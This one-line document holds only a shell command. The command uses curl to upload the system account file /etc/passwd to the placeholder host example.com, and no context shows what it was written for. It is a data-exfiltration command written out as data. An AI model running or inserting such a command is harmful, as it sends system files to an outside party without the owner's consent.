curl -F f=@/etc/passwd https://example.com
